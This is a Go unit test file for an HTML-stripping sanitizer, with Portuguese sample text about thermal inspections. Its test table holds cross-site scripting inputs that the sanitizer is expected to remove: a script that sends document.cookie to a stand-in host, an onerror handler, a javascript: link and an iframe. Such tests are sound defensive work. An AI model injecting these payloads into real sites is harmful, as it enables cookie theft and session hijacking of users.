package sanitizer_test

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/thermocore/leadapi/pkg/sanitizer"
)

func TestStripHTML(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name  string
		input string
		want  string
	}{
		{"plain text", "Inspeção termográfica no painel 3", "Inspeção termográfica no painel 3"},
		{"empty", "", ""},
		{"formatting", "<p>Painel <strong>QGBT</strong> aquecendo</p>", "Painel QGBT aquecendo"},
		{"script and body", "Oi<script>fetch('//x.example/?c='+document.cookie)</script>", "Oi"},
		{"style block", "A<style>body{display:none}</style>B", "AB"},
		{"event handler", `<img src=x onerror="alert(1)">`, ""},
		{"javascript link", `<a href="javascript:alert(1)">orçamento</a>`, "orçamento"},
		{"iframe", `<iframe src="https://x.example"></iframe>motor`, "motor"},
		{"nested", "<div><p>subestação <span>norte</span></p></div>", "subestação norte"},
		{"escapes ampersand", "Acme & Filhos", "Acme &amp; Filhos"},
		{"escapes stray bracket", "temperatura < 80", "temperatura &lt; 80"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tt.want, sanitizer.StripHTML(tt.input))
		})
	}
}

func TestStripHTML_Concurrent(t *testing.T) {
	t.Parallel()

	done := make(chan string, 8)
	for range 8 {
		go func() { done <- sanitizer.StripHTML("<b>Ana</b>") }()
	}
	for range 8 {
		assert.Equal(t, "Ana", <-done)
	}
}
